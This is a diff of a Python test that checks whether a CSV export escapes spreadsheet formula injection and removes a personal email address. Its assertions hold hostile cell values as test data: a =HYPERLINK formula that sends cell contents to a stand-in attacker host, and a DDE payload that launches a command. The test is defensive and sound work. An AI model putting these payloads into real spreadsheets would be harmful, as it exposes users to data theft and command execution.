@@ -95,7 +95,8 @@ def test_formulas_are_quoted_in_a_certified_run_that_still_verifies(
     assert result.exit_code == 0, result.stderr
     run_dir = Path(result.stdout.strip().splitlines()[-1])
     rows = list(csv.reader((run_dir / "data" / "tickets.csv").open(newline="")))
-    assert rows[1][2:] == ["-12.5", '\'=HYPERLINK("http://attacker.example/?"&B2)']
+    assert rows[1][2] == "-12.5"  # a number: as it was
+    assert rows[1][3].startswith("'=HYPERLINK(")  # the URL inside is faked too
     assert rows[2][2:] == ["+3", "'+cmd|' /C calc'!A0"]
     assert "ingrid.halvorsen@example.no" not in (run_dir / "data" / "tickets.csv").read_text()
     manifest = json.loads((run_dir / "manifest.json").read_text())
